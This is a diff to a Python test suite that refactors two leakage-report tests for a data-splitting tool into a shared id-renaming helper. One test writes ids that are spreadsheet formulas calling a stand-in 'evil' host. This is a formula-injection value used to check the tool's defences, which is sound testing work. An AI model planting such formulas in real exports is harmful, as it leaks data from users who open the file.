@@ -587,14 +587,20 @@ def leak_disk_full(lab):
     return run
 
 
-@case("leakage: id with a line break")
-def leak_newline_id(lab):
-    data = lab.copy("leak_newline")
+def _renamed_dev(lab: Lab, name: str, rename) -> tuple[Path, list[dict]]:
+    """A copy whose dev_seen ids are ``rename(id)``; returns it and the dev rows."""
+    data = lab.copy(name)
     f = data / "dev_seen.jsonl"
     rows = [json.loads(line) for line in f.read_text().splitlines()]
     for r in rows:
-        r["id"] = f"{r['id']}\nx"
+        r["id"] = rename(r["id"])
     f.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    return data, rows
+
+
+@case("leakage: id with a line break")
+def leak_newline_id(lab):
+    data, _ = _renamed_dev(lab, "leak_newline", lambda i: f"{i}\nx")
     run, out = _leakage_report(lab, "leak_newline_out", data)
     assert_clear(run, 2, r"\nx' (split dev_seen)", "line break")
     assert not out.exists()
@@ -603,12 +609,7 @@ def leak_newline_id(lab):
 
 @case("leakage: ids that start a spreadsheet formula")
 def leak_formula_ids(lab):
-    data = lab.copy("leak_formula")
-    f = data / "dev_seen.jsonl"
-    rows = [json.loads(line) for line in f.read_text().splitlines()]
-    for r in rows:
-        r["id"] = f"=HYPERLINK(\"http://evil/{r['id']}\")"
-    f.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    data, rows = _renamed_dev(lab, "leak_formula", lambda i: f"=HYPERLINK(\"http://evil/{i}\")")
     run, out = _leakage_report(lab, "leak_formula_out", data)
     assert run.exit_code == 0 and "Traceback" not in run.output, run.output
     import csv
